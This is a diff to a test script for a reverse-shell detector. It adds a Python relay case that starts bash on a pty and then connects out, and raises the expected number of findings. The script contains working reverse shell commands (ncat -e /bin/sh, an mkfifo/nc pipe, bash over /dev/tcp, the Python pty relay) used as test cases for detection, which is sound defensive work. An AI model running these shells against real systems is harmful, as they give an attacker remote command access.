@@ -10,6 +10,7 @@
 #   - ncat -e /bin/sh, ncat -c 'bash -i'                  (pipes, relay ncat)
 #   - rm f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc H P >f (fifo+pipes, relay nc)
 #   - a renamed copy of bash with /dev/tcp on its stdio   (bash by build-id)
+#   - a relay that starts the shell on a pty before it connects (python3)
 #
 # Each: the shell and the relay are both killed, the listener's command
 # (sent 5 s after the connection) never runs, the finding names both, the
@@ -133,6 +134,26 @@ shell_case ncat_e 7804 ncat dash ncat -e /bin/sh "$H1" 7804
 shell_case ncat_c 7805 ncat bash ncat -c "bash -i" "$H1" 7805
 shell_case nc_fifo 7806 nc.openbsd dash \
 	sh -c "cd '$IRC_TMP' && rm -f f && mkfifo f && cat f | /bin/sh -i 2>&1 | nc.openbsd $H1 7806 >f"
+# The relay makes its socket, starts the shell on a pty, and dials only a
+# second later (socat's own order, slowed down): the finding waits for the
+# connection and names its peer.
+PYLATE='import pty,socket,os,sys,time,select
+s=socket.socket(socket.AF_INET)
+pid,m=pty.fork()
+if pid == 0:
+    os.execv("/bin/bash",["bash","-i"])
+time.sleep(1)
+s.connect((sys.argv[1],int(sys.argv[2])))
+while True:
+    r=select.select([s,m],[],[])[0]
+    d=s.recv(4096) if s in r else os.read(m,4096)
+    if not d:
+        break
+    if s in r:
+        os.write(m,d)
+    else:
+        s.sendall(d)'
+shell_case py_late 7816 python3 bash "$PY" -c "$PYLATE" "$H1" 7816
 cp /bin/bash "$BIN/kworker"
 shell_case renamed 7807 kworker bash \
 	"$BIN/kworker" -c "exec 3<>/dev/tcp/$H1/7807; exec $BIN/kworker -i <&3 >&3 2>&3"
@@ -203,6 +224,6 @@ kill -TERM "$DPID"
 check "run: exits" wait_for 5 sh -c "! kill -0 $DPID"
 jq -c '.reverse_shell' "$IRCONTAIN_STATE_DIR/run.json" | sed 's/^/# run.json reverse_shell: /'
 check "run.json: execs looked at, each in bounded time" \
-	jqx '.reverse_shell.execs > 0 and .reverse_shell.found >= 8 and .reverse_shell.exec_us_max < 1000000' \
+	jqx '.reverse_shell.execs > 0 and .reverse_shell.found >= 9 and .reverse_shell.exec_us_max < 1000000' \
 	<"$IRCONTAIN_STATE_DIR/run.json"
 check_rc "unload" 0 irc unload
